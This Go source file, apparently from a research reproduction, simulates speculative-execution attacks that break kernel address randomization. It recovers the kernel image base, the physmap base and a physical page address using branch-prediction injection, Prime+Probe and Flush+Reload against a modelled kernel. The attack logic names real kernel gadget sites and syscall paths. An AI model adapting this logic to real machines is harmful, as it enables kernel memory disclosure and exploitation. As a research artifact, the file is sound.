package core

import (
	"fmt"

	"phantom/internal/kernel"
	"phantom/internal/mem"
	"phantom/internal/telemetry"
)

// KASLRResult reports one derandomization run (Tables 3, 4 and 5 all use
// this shape: did the attack find the right answer, and how long did the
// simulated machine take).
type KASLRResult struct {
	Guess   uint64 // recovered base address (or physical address)
	Correct bool
	Cycles  uint64
	Seconds float64 // simulated wall clock at the nominal 3 GHz
}

// ImageKASLRConfig tunes the Table 3 exploit.
type ImageKASLRConfig struct {
	// Sets is how many distinct I-cache sets contribute to the Section
	// 7.3 score (the paper accumulates all 64; 4 suffices at this
	// simulator's noise level and is the default).
	Sets int
	// Bound clamps each set's timing difference (paper uses 10).
	Bound float64
	// Amplify injects a second prediction at another branch on the
	// getpid() execution path, pointed at an additional target in the
	// monitored set — the Section 7.3 signal amplifier ("to amplify the
	// difference, we trigger another speculative branch along the
	// execution path of the system call to an additional target mapped
	// to S"). Two wrong-path fetches then evict two primed ways instead
	// of one.
	Amplify bool
}

func (c ImageKASLRConfig) withDefaults() ImageKASLRConfig {
	if c.Sets == 0 {
		c.Sets = 4
	}
	if c.Bound == 0 {
		c.Bound = 10
	}
	return c
}

// BreakImageKASLR reproduces the Table 3 exploit: derandomizing the
// kernel image base with P1. For each of the 488 candidate locations the
// attacker injects a jmp* prediction at the candidate's getpid()
// nop site (Listing 1, image offset 0xf6520) pointing into the candidate
// image, issues getpid(), and Prime+Probes the chosen I-cache set; only
// the true location both consumes the prediction (BTB collision with the
// really-executing nop) and has a mapped, executable target.
func BreakImageKASLR(k *kernel.Kernel, cfg ImageKASLRConfig) (*KASLRResult, error) {
	telemetry.CountExperiment("kaslr_image")
	cfg = cfg.withDefaults()
	m := k.M
	a, err := NewAttack(k)
	if err != nil {
		return nil, err
	}

	// Probe sets: spread across the index space, away from the
	// low-offset sets the syscall path thrashes.
	sets := make([]int, cfg.Sets)
	for i := range sets {
		sets[i] = 20 + i*(40/cfg.Sets)
	}
	pps := make([]*IPrimeProbe, len(sets))
	for i, s := range sets {
		pp, err := NewIPrimeProbe(k, 0x7f3000000000+uint64(i)*0x100000, s)
		if err != nil {
			return nil, err
		}
		pps[i] = pp
	}

	start := m.Cycle
	getpid := func() error { return a.Syscall(kernel.SysGetpid) }

	// Baselines per set: the victim syscall with no injection (Section
	// 7.3: "we also measure the time when it maps to some unrelated set").
	baselines := make([]float64, len(sets))
	for i, pp := range pps {
		if baselines[i], err = quiet(pp, 3, getpid); err != nil {
			return nil, err
		}
	}

	// Offset of the second injection point on the getpid path (public
	// binary knowledge, like the gadget offsets).
	exitJmpOff := k.SymbolOffset("getpid_exit_jmp")

	bestSlot, bestScore := -1, 0.0
	probeTimes := make([]float64, len(sets))
	for slot := 0; slot < kernel.KernelSlots; slot++ {
		candidate := kernel.SlotBase(slot)
		victim := candidate + kernel.GetpidSiteOff
		for i, pp := range pps {
			// Target inside the candidate image that maps to set i.
			target := candidate + 0x2000 + uint64(sets[i])<<6
			invoke := getpid
			if cfg.Amplify {
				// Second speculative branch on the same syscall path, to a
				// second target line in the same set.
				target2 := candidate + 0x8000 + uint64(sets[i])<<6
				invoke = func() error {
					if err := a.InjectPrediction(candidate+exitJmpOff, target2); err != nil {
						return err
					}
					return getpid()
				}
			}
			t, err := a.observe(pp, victim, target, invoke)
			if err != nil {
				return nil, err
			}
			probeTimes[i] = float64(t)
		}
		score := ScoreBounded(probeTimes, baselines, cfg.Bound)
		if bestSlot < 0 || score > bestScore {
			bestSlot, bestScore = slot, score
		}
	}

	res := &KASLRResult{
		Guess:   kernel.SlotBase(bestSlot),
		Correct: kernel.SlotBase(bestSlot) == k.ImageBase,
		Cycles:  m.Cycle - start,
	}
	res.Seconds = CyclesToSeconds(res.Cycles)
	return res, nil
}

// PhysmapKASLRConfig tunes the Table 4 exploit.
type PhysmapKASLRConfig struct {
	// ImageBase is the kernel image location, discovered by
	// BreakImageKASLR in the full chain.
	ImageBase uint64
	// Confirmations is how many of 4 re-tests must agree before a signal
	// is accepted (0 = the default 3). Negative disables confirmation
	// entirely — the ablation benchmarks use this to quantify what the
	// majority re-test buys.
	Confirmations int
}

// BreakPhysmapKASLR reproduces the Table 4 exploit: derandomizing the
// physmap base with P2 on AMD Zen 1/2. The attacker confuses the call in
// __fdget_pos() (Listing 2) with a jmp* prediction to the Listing 3
// disclosure gadget (mov r12, [r12+0xbe0]); R12 arrives from the readv()
// RSI argument, so each candidate physmap base yields one transient load
// whose hit in a primed L2 set marks mapped memory. Candidates are
// scanned in ascending order and the first signal is the base.
func BreakPhysmapKASLR(k *kernel.Kernel, cfg PhysmapKASLRConfig) (*KASLRResult, error) {
	telemetry.CountExperiment("kaslr_physmap")
	m := k.M
	a, err := NewAttack(k)
	if err != nil {
		return nil, err
	}
	if cfg.ImageBase == 0 {
		return nil, fmt.Errorf("core: physmap exploit needs the kernel image base")
	}
	// The true signal evicts a primed line from both L1D and L2, so the
	// probe pays a DRAM access; ambient noise usually evicts from L1D
	// only (an L2 hit on probe). Split the difference.
	threshold := float64(m.Prof.L2.HitLatency) + float64(m.Prof.MemLatency)/2

	victim := cfg.ImageBase + k.SymbolOffset("fdget_call_site")
	gadget := cfg.ImageBase + kernel.DisclosureGadgetOff

	// The transient load hits physical address (base correct ⇒)
	// 0 + 0xbe0; prime that L2 set through a huge page.
	hugeVA := uint64(0x7f4000000000)
	if _, err := k.AllocUserHuge(hugeVA); err != nil {
		return nil, err
	}
	pp := NewDPrimeProbe(m, hugeVA, 0xbe0)

	start := m.Cycle

	// Baseline: no injection.
	baseline, err := quiet(pp, 3, func() error { return a.Syscall(kernel.SysReadv, 0, 0) })
	if err != nil {
		return nil, err
	}

	testSlot := func(candidate uint64) (bool, error) {
		t, err := a.observe(pp, victim, gadget, func() error {
			return a.Syscall(kernel.SysReadv, 0, candidate)
		})
		if err != nil {
			return false, err
		}
		return float64(t)-baseline > threshold, nil
	}

	needVotes := cfg.Confirmations
	if needVotes == 0 {
		needVotes = 3
	}

	found := uint64(0)
scan:
	for slot := 0; slot < kernel.PhysmapSlots; slot++ {
		candidate := kernel.PhysmapSlotBase(slot)
		hit, err := testSlot(candidate)
		if err != nil {
			return nil, err
		}
		if !hit {
			continue
		}
		if needVotes < 0 {
			found = candidate
			break scan
		}
		// A single probe false-positives on system-call cache thrash every
		// few hundred slots; confirm with a majority re-test before
		// accepting (the Section 7.3 noise handling, specialized to a
		// yes/no scan).
		votes := 0
		for r := 0; r < 4; r++ {
			h, err := testSlot(candidate)
			if err != nil {
				return nil, err
			}
			if h {
				votes++
			}
		}
		if votes >= needVotes {
			found = candidate
			break scan
		}
	}

	res := &KASLRResult{
		Guess:   found,
		Correct: found == k.PhysmapBase,
		Cycles:  m.Cycle - start,
	}
	res.Seconds = CyclesToSeconds(res.Cycles)
	return res, nil
}

// PhysAddrConfig tunes the Table 5 experiment.
type PhysAddrConfig struct {
	ImageBase   uint64 // from BreakImageKASLR
	PhysmapBase uint64 // from BreakPhysmapKASLR
	// HugeVA is where the attacker's 2 MiB page A is mapped; 0 picks a
	// default and allocates it.
	HugeVA uint64
}

// FindPhysAddr reproduces Table 5: determining the physical address of
// the attacker's own page A by guessing P_g, triggering the Listing 3
// load at physmap+P_g through the readv() path, and Flush+Reloading A
// ("We can verify if P_g is correct using Flush+Reload on address A").
// It returns the discovered physical address of the huge page.
func FindPhysAddr(k *kernel.Kernel, cfg PhysAddrConfig) (*KASLRResult, uint64, error) {
	telemetry.CountExperiment("physaddr")
	m := k.M
	a, err := NewAttack(k)
	if err != nil {
		return nil, 0, err
	}
	if cfg.ImageBase == 0 || cfg.PhysmapBase == 0 {
		return nil, 0, fmt.Errorf("core: physical-address exploit needs image and physmap bases")
	}
	hugeVA := cfg.HugeVA
	if hugeVA == 0 {
		hugeVA = 0x7f5000000000
		if _, err := k.AllocUserHuge(hugeVA); err != nil {
			return nil, 0, err
		}
	}

	victim := cfg.ImageBase + k.SymbolOffset("fdget_call_site")
	gadget := cfg.ImageBase + kernel.DisclosureGadgetOff
	// The gadget loads [R12 + 0xbe0]; monitor that offset within A.
	fr := NewFlushReload(m, hugeVA+0xbe0)

	start := m.Cycle
	found := uint64(0)
	for pg := uint64(0); pg < m.Phys.Size(); pg += mem.HugePageSize {
		lat, err := a.observe(fr, victim, gadget, func() error {
			return a.Syscall(kernel.SysReadv, 0, cfg.PhysmapBase+pg)
		})
		if err != nil {
			return nil, 0, err
		}
		if lat < fetchLatencyThreshold(m.Prof) {
			found = pg
			break
		}
	}

	truth, f := m.UserAS.Translate(hugeVA, mem.AccessRead, false)
	if f != nil {
		return nil, 0, fmt.Errorf("core: huge page translation: %v", f)
	}
	res := &KASLRResult{
		Guess:   found,
		Correct: found == truth,
		Cycles:  m.Cycle - start,
	}
	res.Seconds = CyclesToSeconds(res.Cycles)
	return res, found, nil
}
